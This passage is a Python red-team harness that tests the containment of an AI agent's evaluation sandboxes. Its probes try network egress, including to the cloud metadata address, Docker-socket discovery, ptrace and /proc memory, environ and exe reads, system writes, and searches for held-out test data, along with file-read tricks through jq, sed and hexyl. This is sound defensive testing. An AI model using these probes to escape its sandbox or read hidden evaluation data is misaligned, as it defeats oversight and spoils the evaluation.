"""The red team: scripted attacks from where an agent stands, each blocked or leaked.

Attacks are registered by name with ``@attack(name, channel, targets)``. Channels:

- ``oracle``: through the reference program's own features (``jq --rawfile``, ``sed r``/``e``,
  ``hexyl FILE``, ``brotli -c``), and through a hostile program standing in for one that runs
  arbitrary code (``/bin/sh`` served by the same hardened box, with and without the sandbox);
- ``agent box``: from inside the agent's box, as the agent's uid;
- ``scoring box``: from a candidate run by the scoring runner, and from its ``build.sh``;
- ``protocol``: raw requests to the oracle socket.

An attack returns a :class:`Verdict`: leaked only on real evidence (bytes that came back, a
connection made, a file found), blocked with what was tried and what came back. It raises
:class:`Skip` when it cannot apply to a target; skipped attacks are not counted. Probes that
run inside boxes are small Python programs (``PROBES``) that print one JSON result line.
"""

from __future__ import annotations

import base64
import contextlib
import json
import logging
import socket
import statistics
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Any, Literal

from tqdm import tqdm

from mirror.boxes.agent_image import AGENT_UID, ensure_agent_image, hidden_paths, masks
from mirror.boxes.containers import (
    SANDBOX_READ,
    ReferenceBox,
    agent_box,
    reference_box,
    runner_box,
    sandbox_rules,
)
from mirror.boxes.engine import engine
from mirror.boxes.images import (
    PROGRAM_UID,
    SANDBOX_LAUNCHER,
    SANDBOX_PRELOAD,
    ReferenceImage,
    ensure_reference_image,
)
from mirror.boxes.task import write_task
from mirror.scoring.score import build_workspace, copy_workspace, run_cases
from mirror.specs.targets import ROOT, Target, get_target
from mirror.suites import SuiteCase, heldout_root, read_suite, visible_path
from oracle.case import Case, Outcome
from oracle.client import OracleClient, OracleError
from oracle.server import MAX_REQUEST_BYTES

log = logging.getLogger(__name__)

Channel = Literal["oracle", "agent box", "scoring box", "protocol"]
CHANNELS: tuple[Channel, ...] = ("oracle", "agent box", "scoring box", "protocol")
REFUSALS = (
    b"Permission denied",
    b"Operation not permitted",
    b"No such file or directory",
    b"Read-only file system",
)
GLIBC = ("ld-linux", "libc.so", "libm.so", "libpthread.so", "libdl.so", "librt.so")


class Skip(Exception):
    """The attack cannot apply to this target (no such feature, nothing to read)."""


class ProbeError(RuntimeError):
    """A probe inside a box printed no result: the harness failed, not the defence."""


@dataclass(frozen=True)
class Verdict:
    leaked: bool
    evidence: str


@dataclass(frozen=True)
class Result:
    """One attack on one target: ``result`` is "blocked", "leaked" or "error" (harness)."""

    attack: str
    channel: Channel
    target: str
    result: str
    evidence: str


@dataclass(frozen=True)
class Attack:
    name: str
    channel: Channel
    run: Callable[[Context], Verdict]
    targets: frozenset[str] | None


ATTACKS: dict[str, Attack] = {}


def attack(
    name: str, channel: Channel, targets: Iterable[str] | None = None
) -> Callable[[Callable[[Context], Verdict]], Callable[[Context], Verdict]]:
    """Register an attack under ``name``; ``targets`` limits it to those targets."""
    assert channel in CHANNELS, channel

    def register(function: Callable[[Context], Verdict]) -> Callable[[Context], Verdict]:
        ATTACKS[name] = Attack(name, channel, function, frozenset(targets) if targets else None)
        return function

    return register


def summary(outcome: Outcome, width: int = 70) -> str:
    """Exit status and the first bytes of stdout and stderr, for evidence."""
    status = f"signal {outcome.signal}" if outcome.signal else f"exit {outcome.exit_code}"
    if outcome.timed_out:
        status += " (timed out)"
    for name in ("stdout", "stderr"):
        data = getattr(outcome, name).strip()
        if data:
            status += f", {name} {data[:width].decode(errors='replace')!r}"
    return status


def refused(outcome: Outcome) -> bool:
    """Whether stderr reports a refusal (any case: Go says "permission denied")."""
    return any(message.lower() in outcome.stderr.lower() for message in REFUSALS)


# ---------------------------------------------------------------------------------------------
# Probes: Python programs run inside boxes. Each gets its parameters as P and sets `result`.

PRELUDE = """import base64, json, os, socket, stat, subprocess, sys
P = json.loads(base64.b64decode("{blob}"))
"""

PROBES = {
    # TCP, UDP and DNS from the box, and its network interfaces.
    "net": """
def tcp(host, port):
    try:
        socket.create_connection((host, port), timeout=2).close()
        return "connected"
    except OSError as e:
        return e.strerror or repr(e)
QUERY = bytes.fromhex("123401000001000000000000076578616d706c6503636f6d0000010001")
def udp(host, port):
    try:
        family = socket.getaddrinfo(host, port, type=socket.SOCK_DGRAM)[0][0]
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(QUERY, (host, port))
        return "answered %d bytes" % len(s.recv(512))
    except socket.timeout:
        return "sent, no answer"
    except OSError as e:
        return e.strerror or repr(e)
def dns(name):
    try:
        return "resolved " + socket.getaddrinfo(name, 443)[0][4][0]
    except OSError as e:
        return str(e)
try:
    interfaces = sorted(os.listdir("/sys/class/net"))
except OSError as e:
    interfaces = [str(e)]
result = {"tcp": {"%s:%s" % (h, p): tcp(h, p) for h, p in P["tcp"]},
          "udp": {"%s:%s" % (h, p): udp(h, p) for h, p in P["udp"]},
          "dns": {n: dns(n) for n in P["dns"]}, "interfaces": interfaces}
""",
    # Docker's (and containerd's) sockets, any unix socket on the file system.
    "docker": """
found, sockets, abstract = {}, [], []
for path in P["paths"]:
    if not os.path.exists(path):
        continue
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    try:
        s.connect(path)
        s.sendall(b"GET /version HTTP/1.0\\r\\n\\r\\n")
        found[path] = s.recv(100).decode(errors="replace")
    except OSError as e:
        found[path] = "present: " + (e.strerror or repr(e))
for root, dirs, files in os.walk("/"):
    if root == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
    for name in files:
        try:
            if stat.S_ISSOCK(os.lstat(os.path.join(root, name)).st_mode):
                sockets.append(os.path.join(root, name))
        except OSError:
            pass
try:
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        if len(line.split()) >= 8 and line.split()[7].startswith("@"):
            abstract.append(line.split()[7])
except OSError:
    pass
result = {"found": found, "sockets": sockets, "abstract": abstract,
          "DOCKER_HOST": os.environ.get("DOCKER_HOST")}
""",
    # Every readable file searched for the given strings; suite/receipt/log file names.
    "search": """
prune = ["(", "-path", "/proc", "-o", "-path", "/sys", "-o", "-path", "/dev", ")", "-prune", "-o"]
listing = subprocess.run(["find", "/", *prune, "-type", "f", "-readable", "-print0"],
                         capture_output=True).stdout
grep = ["xargs", "-0", "-r", "grep", "-lsF"]
for text in P["strings"]:
    grep += ["-e", text]
files = subprocess.run(grep, input=listing, capture_output=True).stdout.decode().splitlines()
hits = {}
for path in files:
    data = open(path, "rb").read()
    hits[path] = [i for i, text in enumerate(P["strings"]) if text.encode() in data]
names = ["-name", "*.receipt.json", "-o", "-name", "queries.jsonl", "-o", "-name",
         "*.cases.jsonl", "-o", "-path", "*/heldout/*"]
named = subprocess.run(["find", "/", *prune, "(", *names, ")", "-print"],
                       capture_output=True).stdout.decode().splitlines()
result = {"hits": hits, "names": named, "searched": listing.count(b"\\0")}
""",
    # Copies of the reference: same size and sha256 anywhere, its packages' .deb files, masks.
    "leftovers": """
import hashlib
sizes = {int(size): digests for size, digests in P["sizes"].items()}
matches, debs, hashed = [], [], 0
for root, dirs, files in os.walk("/"):
    if root == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
    for name in files:
        path = os.path.join(root, name)
        if name.endswith(".deb"):
            debs.append(path)
        try:
            info = os.lstat(path)
            if not stat.S_ISREG(info.st_mode) or info.st_size not in sizes:
                continue
            digest = hashlib.sha256(open(path, "rb").read()).hexdigest()
        except OSError:
            continue
        hashed += 1
        if digest in sizes[info.st_size]:
            matches.append("%s = %s" % (path, sizes[info.st_size][digest]))
status = subprocess.run(["dpkg-query", "-W", "-f", "${Package} ${db:Status-Abbrev} "
                         "${source:Package}\\n"], capture_output=True, text=True).stdout
siblings = {words[0] for words in map(str.split, status.splitlines())
            if len(words) == 3 and words[1] == "ii" and words[2] in P["sources"]}
libraries = []
for package in sorted(siblings | set(P["packages"])):
    listing = subprocess.run(["dpkg", "-L", package], capture_output=True, text=True).stdout
    for path in listing.splitlines():
        try:
            with open(path, "rb") as f:
                if ".so" in os.path.basename(path) and f.read(4) == b"\\x7fELF":
                    libraries.append(path)
        except OSError:
            pass
ours = siblings | set(P["packages"]) | set(P["sources"])
debs = [path for path in debs if os.path.basename(path).split("_")[0] in ours]
masked = {}
for path in P["hidden"]:
    try:
        masked[path] = len(open(path, "rb").read())
    except OSError as e:
        masked[path] = e.strerror
result = {"matches": matches, "debs": debs, "hashed": hashed, "masked": masked,
          "libraries": sorted(set(libraries)), "siblings": sorted(siblings)}
""",
    # Processes of other users (the reference's, the runner's) and what can be done to them.
    "procs": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
me, others, count = os.getuid(), {}, 0
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        status = open("/proc/%d/status" % pid).read()
        cmd = open("/proc/%d/cmdline" % pid, "rb").read().replace(b"\\0", b" ").decode()
    except OSError:
        continue
    count += 1
    uid = int(status.split("Uid:")[1].split()[0])
    if uid == me and not any(word in cmd for word in P["words"]):
        continue
    tried = {}
    for what, mode in (("fd/0", os.O_RDONLY), ("fd/1", os.O_WRONLY), ("mem", os.O_RDONLY),
                       ("environ", os.O_RDONLY), ("exe", os.O_RDONLY)):
        try:
            os.close(os.open("/proc/%d/%s" % (pid, what), mode))
            tried[what] = "opened"
        except OSError as e:
            tried[what] = e.strerror
    try:
        os.kill(pid, 0)
        tried["signal"] = "allowed"
    except OSError as e:
        tried["signal"] = e.strerror
    if libc.ptrace(16, pid, None, None) == 0:
        tried["ptrace"] = "attached"
        libc.ptrace(17, pid, None, None)
    else:
        tried["ptrace"] = os.strerror(ctypes.get_errno())
    others["%d uid %d %s" % (pid, uid, cmd[:40])] = tried
result = {"others": others, "processes": count}
""",
    # ptrace, process_vm_readv and /proc/PID/mem on a child of the probe (same uid).
    "ptrace": """
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
secret = ctypes.create_string_buffer(b"secret!")
child = os.fork()
if child == 0:
    time.sleep(10)
    os._exit(0)
def errno_text(value):
    return os.strerror(ctypes.get_errno()) if value < 0 else None
buffer = ctypes.create_string_buffer(8)
local = IOVec(ctypes.cast(buffer, ctypes.c_void_p), 7)
remote = IOVec(ctypes.cast(secret, ctypes.c_void_p), 7)
read = libc.process_vm_readv(child, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
result = {"process_vm_readv": errno_text(read) or "read %r" % buffer.value}
attached = libc.ptrace(16, child, None, None)
result["ptrace"] = errno_text(attached) or "attached"
try:
    os.close(os.open("/proc/%d/mem" % child, os.O_RDONLY))
    result["mem"] = "opened"
except OSError as e:
    result["mem"] = e.strerror
os.kill(child, 9)
os.waitpid(child, 0)
""",
    # Files created (dirs) or opened for writing (files) outside where the box may write.
    "writes": """
written, refused = [], {}
for folder in P["dirs"]:
    path = os.path.join(folder, ".redteam-write-probe")
    try:
        with open(path, "x") as f:
            f.write("x")
        written.append(folder)
        os.unlink(path)
    except OSError as e:
        refused[folder] = e.strerror
for path in P["files"]:
    try:
        open(path, "a").close()
        written.append(path)
    except OSError as e:
        refused[path] = e.strerror
result = {"written": written, "refused": refused}
""",
    # The oracle from a box that must not have it.
    "oracle": """
try:
    listing = os.listdir("/oracle")
except OSError as e:
    listing = e.strerror
run = subprocess.run(["oracle", "run", "--", "--version"], capture_output=True)
result = {"env": os.environ.get("MIRROR_ORACLE_SOCKET"), "listing": listing,
          "exit": run.returncode, "stderr": run.stderr.decode(errors="replace")[:100]}
""",
    # Capabilities and no_new_privs of the probe's own process.
    "caps": """
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
result = {key: status[key].strip() for key in ("CapEff", "CapPrm", "NoNewPrivs", "Seccomp")}
result["uid"] = os.getuid()
""",
}


def render(name: str, params: dict[str, Any] | None = None) -> str:
    """The source of probe ``name`` with its parameters (base64: a searched-for string never
    appears verbatim in a probe file)."""
    blob = base64.b64encode(json.dumps(params or {}).encode()).decode()
    ending = f"\nprint('REDTEAM {name} ' + json.dumps(result))\n"
    return PRELUDE.format(blob=blob) + PROBES[name] + ending


def parse(name: str, output: bytes) -> dict[str, Any]:
    """The result a probe printed, found in ``output`` (a build log holds several)."""
    for line in reversed(output.decode(errors="replace").splitlines()):
        if line.startswith(f"REDTEAM {name} "):
            return json.loads(line.split(" ", 2)[2])
    raise ProbeError(f"probe {name!r} printed no result: {output[-300:].decode(errors='replace')}")


def probe_in_container(container: Any, name: str, params: dict | None, user: str) -> dict:
    """Run a probe in a running container (``docker exec`` as ``user``)."""
    result = container.exec_run(["python3", "-c", render(name, params)], user=user, demux=True)
    stdout, stderr = result.output
    return parse(name, (stdout or b"") + b"\n" + (stderr or b""))


def probe_via_runner(client: OracleClient, name: str, params: dict | None) -> dict:
    """Run a probe as the program of a runner box serving /bin/sh."""
    case = Case(("-c", 'exec python3 -c "$P"'), env={"P": render(name, params)}, timeout=120)
    outcome = client.run(case)
    return parse(name, outcome.stdout + b"\n" + outcome.stderr)


# Fixed probe parameters.
NET = {
    "tcp": [
        ["1.1.1.1", 443],
        ["8.8.8.8", 53],
        ["10.0.0.1", 80],
        ["172.17.0.1", 2375],
        ["192.168.1.1", 80],
        ["169.254.169.254", 80],
        ["2606:4700:4700::1111", 443],
    ],
    "udp": [["8.8.8.8", 53], ["1.1.1.1", 53], ["2001:4860:4860::8888", 53]],
    "dns": ["deb.debian.org", "pypi.org"],
}
DOCKER = {
    "paths": [
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/var/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
        "/run/user/0/docker.sock",
    ]
}
WRITE_DIRS = [
    "/",
    "/tmp",
    "/var/tmp",
    "/etc",
    "/usr/local/bin",
    "/opt/mirror/oracle",
    "/work",
    "/work/bin",
    "/oracle",
    "/var/log/mirror",
    "/task",
    "/home",
    "/case",
    "/dev/shm",
    "/run",
]
RUNNER_FILES = [
    "/opt/mirror/oracle/runner.py",
    "/opt/mirror/oracle/server.py",
    "/usr/local/bin/oracle",
]


# ---------------------------------------------------------------------------------------------
# Judges: probe results to verdicts.


def judge_tcp(result: dict) -> Verdict:
    made = [address for address, outcome in result["tcp"].items() if outcome == "connected"]
    interfaces = result["interfaces"]
    if made or interfaces != ["lo"]:
        return Verdict(True, f"connected to {made}; interfaces {interfaces}")
    reasons = sorted(set(result["tcp"].values()))
    return Verdict(False, f"{len(result['tcp'])} addresses refused ({'; '.join(reasons)}); only lo")


def judge_udp(result: dict) -> Verdict:
    sent = {a: o for a, o in result["udp"].items() if o.startswith(("answered", "sent"))}
    if sent:
        return Verdict(True, f"datagrams left the box: {sent}")
    return Verdict(False, f"sendto refused: {'; '.join(sorted(set(result['udp'].values())))}")


def judge_dns(result: dict) -> Verdict:
    resolved = {n: o for n, o in result["dns"].items() if o.startswith("resolved")}
    if resolved:
        return Verdict(True, f"resolved {resolved}")
    return Verdict(False, f"{', '.join(result['dns'])}: {next(iter(result['dns'].values()))}")


def judge_docker(result: dict) -> Verdict:
    unexpected = [path for path in result["sockets"] if not path.startswith("/oracle/")]
    engines = [name for name in result["abstract"] if "docker" in name or "containerd" in name]
    if result["found"] or unexpected or engines or result["DOCKER_HOST"]:
        return Verdict(
            True,
            f"found {result['found']}, sockets {unexpected}, abstract {engines}, "
            f"DOCKER_HOST {result['DOCKER_HOST']}",
        )
    return Verdict(
        False, f"no engine socket; unix sockets on the fs: {result['sockets'] or 'none'}"
    )


def judge_caps(result: dict) -> Verdict:
    if int(result["CapEff"], 16) or int(result["CapPrm"], 16) or result["NoNewPrivs"] != "1":
        return Verdict(True, f"uid {result['uid']}: {result}")
    return Verdict(False, f"uid {result['uid']}: CapEff 0, CapPrm 0, NoNewPrivs 1")


def judge_writes(result: dict, allowed: Iterable[str]) -> Verdict:
    """Leaked when anything was written outside ``allowed`` folders (or below them)."""
    allowed = tuple(allowed)
    outside = [
        path
        for path in result["written"]
        if not any(path == a or path.startswith(a + "/") for a in allowed)
    ]
    if outside:
        return Verdict(True, f"wrote to {outside}")
    return Verdict(
        False,
        f"{len(result['refused'])} places refused "
        f"({', '.join(sorted(set(result['refused'].values())))}); "
        f"writable: {result['written'] or 'none'}",
    )


def judge_oracle_absent(result: dict) -> Verdict:
    if result["exit"] == 0 or result["env"]:
        return Verdict(True, f"oracle answered or advertised: {result}")
    return Verdict(False, f"/oracle: {result['listing']}; `oracle run`: exit {result['exit']}")


def judge_procs(result: dict) -> Verdict:
    reached = {
        process: tried
        for process, tried in result["others"].items()
        if {"opened", "allowed", "attached"} & set(tried.values())
    }
    return Verdict(
        bool(reached),
        f"reached {reached}"
        if reached
        else f"{len(result['others'])} foreign processes, none opened, signalled or traced",
    )


# ---------------------------------------------------------------------------------------------
# Context: the boxes of one target, each started on first use and removed at the end.


@dataclass(frozen=True)
class Secrets:
    """What no box may hold: a held-out case id and input, the query-log marker, receipts."""

    heldout_suite: str  # the suite the id comes from
    case_id: str
    input_suite: str  # the suite the input comes from (another when the first has none)
    heldout_input: str
    marker: str
    receipt_ids: tuple[str, ...]

    def strings(self) -> list[str]:
        return [self.case_id, self.heldout_input, self.marker, *self.receipt_ids]


@dataclass(frozen=True)
class ReferenceFile:
    path: str
    size: int
    sha256: str
    private: bool  # the binary, or a library of a package built from the binary's source
    linked: bool  # loaded by the program (ldd)


@dataclass(frozen=True)
class Reference:
    """What the reference is made of, read in its box as root."""

    files: list[ReferenceFile]
    sources: list[str]  # the source package(s) of the binary's package (none if built here)
    packages: list[str]  # binary packages installed from those sources


class Context:
    """Everything the attacks on one target use, started lazily, removed by ``stack``."""

    def __init__(self, target: Target, folder: Path, stack: ExitStack):
        self.target = target
        self.folder = folder
        self.stack = stack
        self._probes: dict[tuple[str, str], dict] = {}

    @cached_property
    def image(self) -> ReferenceImage:
        return ensure_reference_image(self.target)

    @cached_property
    def reference(self) -> ReferenceBox:
        box = reference_box(self.target, self.folder / "sock" / "oracle.sock", self.folder / "log")
        return self.stack.enter_context(box)

    @cached_property
    def client(self) -> OracleClient:
        return self.stack.enter_context(self.reference.client())

    def run(self, case: Case) -> Outcome:
        """A case through the real oracle."""
        return self.client.run(case)

    def _shell(self, name: str, extra: list[str]) -> tuple[Any, OracleClient, Path]:
        folder = self.folder / name
        socket_path = folder / "sock" / "o.sock"
        box = runner_box(
            self.image.tag,
            "/bin/sh",
            "sh",
            socket_path,
            folder / "log",
            f"{self.target.name}-{name}",
            extra,
        )
        container = self.stack.enter_context(box)
        return container, self.stack.enter_context(OracleClient(socket_path)), folder

    @cached_property
    def shell(self) -> tuple[Any, OracleClient, Path]:
        """The reference box's hardening serving /bin/sh unsandboxed: a compromised program."""
        return self._shell("shell", [])

    @cached_property
    def jail(self) -> OracleClient:
        """/bin/sh under the target's sandbox, with /usr/bin and /usr/lib executable: arbitrary
        code inside the sandbox, to show what seccomp and Landlock still refuse."""
        rules = sandbox_rules(self.target) + ":x:/usr/bin:x:/usr/lib"
        return self._shell("jail", ["--sandbox", rules, "--sandbox-launcher", SANDBOX_LAUNCHER])[1]

    @cached_property
    def task(self) -> Path:
        return _task_folder(self.target, self.folder / "task")

    @cached_property
    def marker(self) -> str:
        """A string now in the host's query log, and nowhere a box can read."""
        marker = f"redteam-marker-{uuid.uuid4().hex}"
        self.run(Case((marker,)))
        if marker not in self.reference.log_path.read_text():
            raise ProbeError("the marker query is not in the query log")
        return marker

    @cached_property
    def secrets(self) -> Secrets:
        return find_secrets(self.target, self.task, self.marker)

    @cached_property
    def agent(self) -> Any:
        box = agent_box(self.target, self.task, self.folder / "workspace", self.folder / "sock")
        return self.stack.enter_context(box)

    @cached_property
    def parts(self) -> Reference:
        return reference_parts(self.reference.container, self.image.manifest)

    def params(self, name: str, box: str) -> dict[str, Any]:
        """The parameters of probe ``name`` in ``box``."""
        if name == "net":
            return NET
        if name == "docker":
            return DOCKER
        if name == "search":
            return {"strings": self.secrets.strings()}
        if name == "leftovers":
            sizes: dict[int, dict[str, str]] = {}
            for file in self.parts.files:
                if file.private:
                    sizes.setdefault(file.size, {})[file.sha256] = file.path
            return {
                "sizes": sizes,
                "sources": self.parts.sources,
                "packages": self.parts.packages,
                "hidden": list(self.hidden),
            }
        if name == "procs":
            return {"words": ["oracle serve", self.target.binary]}
        if name == "writes":
            return {
                "dirs": WRITE_DIRS,
                "files": [*RUNNER_FILES, f"/work/bin/{self.target.command}"],
            }
        return {}

    @cached_property
    def hidden(self) -> tuple[str, ...]:
        return hidden_paths(self.target)

    def probe(self, box: str, name: str) -> dict[str, Any]:
        """Probe ``name``'s result in ``box`` ("agent", "shell", "jail", "scoring", "build")."""
        key = (box, name)
        if key not in self._probes:
            if box in ("scoring", "build"):
                self._probes.update(self._scoring_probes())
            elif box == "agent":
                self._probes[key] = probe_in_container(
                    self.agent, name, self.params(name, box), str(AGENT_UID)
                )
            else:
                client = self.jail if box == "jail" else self.shell[1]
                self._probes[key] = probe_via_runner(client, name, self.params(name, box))
        return self._probes[key]

    def _scoring_probes(self) -> dict[tuple[str, str], dict]:
        """Every scoring and build probe, from one build and one run of a probe candidate."""
        workspace = self.folder / "candidate"
        (workspace / "bin").mkdir(parents=True, exist_ok=True)
        (workspace / "redteam").mkdir(exist_ok=True)
        program = workspace / "bin" / self.target.command
        program.write_text('#!/bin/sh\nexec python3 -c "$1"\n')
        program.chmod(0o755)
        for name in BUILD_PROBES:
            (workspace / "redteam" / f"{name}.py").write_text(
                render(name, self.params(name, "build"))
            )
        (workspace / "build.sh").write_text(
            'for probe in redteam/*.py; do python3 "$probe" 2>&1; done\nexit 0\n'
        )
        work = copy_workspace(workspace, Path(tempfile.mkdtemp(dir=self.folder)))
        log_path = self.folder / "build.log"
        build_workspace(work, log_path, masks(self.target), timeout=600)
        output = log_path.read_bytes()
        results = {("build", name): parse(name, output) for name in BUILD_PROBES}
        room = Outcome(b"-" * (1 << 20), b"", 0)  # the gold's size sets the output cap
        entries = [
            SuiteCase(
                "redteam", Case((render(name, self.params(name, "scoring")),), timeout=120), room
            )
            for name in SCORING_PROBES
        ]
        outcomes = run_cases(work, self.target, entries, workers=2)
        for name, outcome in zip(SCORING_PROBES, outcomes, strict=True):
            results["scoring", name] = parse(name, outcome.stdout + b"\n" + outcome.stderr)
        return results


SCORING_PROBES = ("net", "docker", "search", "leftovers", "procs", "writes", "oracle", "caps")
BUILD_PROBES = ("net", "docker", "search", "writes", "oracle", "caps")
# Run in the reference box as root: the binary, the libraries it loads and the manifest's, with
# sizes, digests, and whether each comes from the binary's own source package.
REFERENCE_PARTS = r"""
import hashlib, json, os, subprocess, sys
binary, libraries = sys.argv[1], sys.argv[2:]
def owner(path):
    real = os.path.realpath(path)
    for name in dict.fromkeys([path, real, real.replace("/usr/", "/", 1)]):  # merged /usr
        query = subprocess.run(["dpkg", "-S", name], capture_output=True, text=True)
        if query.returncode == 0:
            return query.stdout.split(":")[0]
    return None
def query(*args):
    return subprocess.run(["dpkg-query", "-W", "-f", *args], capture_output=True, text=True).stdout
package = owner(binary)
sources = [query("${source:Package}", package).strip()] if package else []
packages = [line.split()[0] for line in query("${Package} ${source:Package}\n").splitlines()
            if line.split()[1:] == sources]
ldd = subprocess.run(["ldd", binary], capture_output=True, text=True).stdout
linked = [line.split("=>")[1].split()[0] for line in ldd.splitlines() if "=> /" in line]
files = []
for path in dict.fromkeys([binary, *linked, *libraries]):
    data = open(os.path.realpath(path), "rb").read()
    private = path == binary or owner(path) in packages
    files.append([path, len(data), hashlib.sha256(data).hexdigest(), private, path in linked])
print(json.dumps({"files": files, "sources": sources, "packages": packages}))
"""


def reference_parts(container: Any, manifest: dict) -> Reference:
    """The reference's binary and libraries, read in its box as root (see REFERENCE_PARTS)."""
    command = ["python3", "-c", REFERENCE_PARTS, manifest["binary_realpath"]]
    output = container.exec_run([*command, *manifest["libraries"]]).output.decode()
    found = json.loads(output.splitlines()[-1])
    files = [ReferenceFile(*row) for row in found["files"]]
    if files[0].sha256 != manifest["binary_sha256"]:
        raise ProbeError(f"{files[0].path} in the box does not match the manifest's sha256")
    return Reference(files, found["sources"], found["packages"])


def linked_libraries(reference: Reference, target: Target) -> list[str]:
    """Libraries the program loads beyond glibc and what its sandbox deliberately allows."""
    allowed = (*SANDBOX_READ, *target.sandbox.read, *target.sandbox.execute)
    return [
        f.path
        for f in reference.files
        if f.linked
        and not any(name in Path(f.path).name for name in GLIBC)
        and not any(f.path == a or f.path.startswith(a + "/") for a in allowed)
    ]


def find_secrets(target: Target, task: Path, marker: str) -> Secrets:
    """A held-out case id and a held-out-only input string (from this target's suite when it
    has one, else from others'), a fresh query-log marker, and receipt run ids if any exist."""
    suites = [heldout_root() / target.name / "cases.jsonl"]
    suites += sorted(heldout_root().glob("*/cases.jsonl"))
    suites = [path for path in dict.fromkeys(suites) if path.exists()]
    if not suites:
        raise Skip("no held-out suite exists yet")
    docs = b"".join(doc.read_bytes() for doc in (task / "docs").glob("*"))
    for suite in suites:
        entries = read_suite(suite)
        visible = visible_path(get_target(suite.parent.name))
        public = docs + (visible.read_bytes() if visible.exists() else b"")
        candidates = {
            line
            for entry in entries
            for data in (
                *map(str.encode, entry.case.args),
                entry.case.stdin,
                *entry.case.files.values(),
            )
            for line in data.decode(errors="replace").splitlines()
            if 16 <= len(line) <= 200
            and line.isascii()
            and line.isprintable()
            and line.encode() not in public
        }
        if candidates:
            break
    else:
        raise ProbeError("no held-out suite has a held-out-only input string to search for")
    chosen = max(candidates, key=lambda line: (len(set(line)), len(line), line))
    receipts = sorted((ROOT / "results").glob("**/*.receipt.json"))[-2:]
    return Secrets(
        heldout_suite=suites[0].parent.name,
        case_id=read_suite(suites[0])[0].id,
        input_suite=suite.parent.name,
        heldout_input=chosen,
        marker=marker,
        receipt_ids=tuple(path.name.removesuffix(".receipt.json") for path in receipts),
    )


def _task_folder(target: Target, into: Path) -> Path:
    """The task folder the agent gets (an empty visible suite when none is built yet)."""
    try:
        return write_task(target, into)
    except FileNotFoundError:
        (into / "tests").mkdir(parents=True, exist_ok=True)
        (into / "tests" / "visible.jsonl").write_bytes(b"")
        return into


# ---------------------------------------------------------------------------------------------
# Oracle channel: the reference program's own features.


@dataclass(frozen=True)
class Reader:
    """One way a program reads a named file and shows its bytes."""

    how: str
    case: Callable[[str], Case]
    shows: Callable[[Outcome], bool]  # the bytes came back
    silent: bool = False  # refuses without a message (sed's r and R ignore unreadable files)


READERS: dict[str, list[Reader]] = {
    "jq": [
        Reader(
            "jq --rawfile",
            lambda p: Case(("--rawfile", "x", p, "-n", "$x|length")),
            lambda o: o.stdout.strip().isdigit(),
        ),
        Reader("jq -R", lambda p: Case(("-R", ".", p)), lambda o: bool(o.stdout)),
    ],
    "sed": [
        Reader("sed -n p", lambda p: Case(("-n", "p", p)), lambda o: bool(o.stdout)),
        Reader("sed r", lambda p: Case((f"r {p}",), b"-\n"), lambda o: o.stdout != b"-\n", True),
        Reader("sed R", lambda p: Case((f"R {p}",), b"-\n"), lambda o: o.stdout != b"-\n", True),
    ],
    "hexyl": [Reader("hexyl", lambda p: Case((p,)), lambda o: b"00000000" in o.stdout)],
    "gron": [Reader("gron", lambda p: Case((p,)), lambda o: bool(o.stdout))],
    "colt": [Reader("colt", lambda p: Case((p,)), lambda o: bool(o.stdout))],
    "brotlid": [
        Reader("brotli -c", lambda p: Case(("-c", p)), lambda o: bool(o.stdout)),
        Reader("brotli -dc", lambda p: Case(("-dc", p)), lambda o: b"corrupt" in o.stderr),
    ],
}


def read_through(ctx: Context, paths: Iterable[str]) -> Verdict:
    """Every way the target's program reads files, on each path, through the oracle."""
    return read_via(ctx.run, READERS[ctx.target.name], paths)


def read_via(
    run: Callable[[Case], Outcome], readers: list[Reader], paths: Iterable[str]
) -> Verdict:
    """Leaked when any reader shows bytes of any path, or when a reader that reports refusals
    reports none."""
    tried: list[str] = []
    first = ""
    for path in paths:
        for reader in readers:
            outcome = run(reader.case(path))
            if reader.shows(outcome) or not (reader.silent or refused(outcome)):
                return Verdict(True, f"{reader.how} {path}: {summary(outcome)}")
            tried.append(f"{reader.how} {path}")
            first = first or f"{reader.how} {path}: {summary(outcome, 60)}"
    return Verdict(False, f"{len(tried)} reads refused, e.g. {first}")


def _binary_paths(ctx: Context) -> list[str]:
    binary, real = ctx.target.binary, ctx.image.manifest["binary_realpath"]
    return list(dict.fromkeys([binary, real, "/bin/" + Path(binary).name]))


READ_TARGETS = set(READERS)


@attack("read the reference binary", "oracle", READ_TARGETS)
def read_binary(ctx: Context) -> Verdict:
    return read_through(ctx, _binary_paths(ctx))


@attack("read /proc/<pid>/exe (self, runner)", "oracle", READ_TARGETS)
def read_exe(ctx: Context) -> Verdict:
    return read_through(ctx, ["/proc/self/exe", "/proc/1/exe"])


@attack("read /proc/<pid>/mem (self, runner)", "oracle", READ_TARGETS)
def read_mem(ctx: Context) -> Verdict:
    return read_through(ctx, ["/proc/self/mem", "/proc/1/mem"])


@attack("read /proc/<pid>/maps (self, runner)", "oracle", READ_TARGETS)
def read_maps(ctx: Context) -> Verdict:
    return read_through(ctx, ["/proc/self/maps", "/proc/1/maps", "/proc/self/smaps"])


@attack("read /proc/<pid>/environ, cmdline", "oracle", READ_TARGETS)
def read_environ(ctx: Context) -> Verdict:
    paths = ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/1/status"]
    return read_through(ctx, paths)


@attack("read the program's shared libraries", "oracle", READ_TARGETS)
def read_libraries(ctx: Context) -> Verdict:
    libraries = linked_libraries(ctx.parts, ctx.target)
    if not libraries:
        raise Skip("the program loads no library beyond glibc")
    # A library the agent box holds byte for byte gives nothing away when read: only the
    # others must stay unreadable.
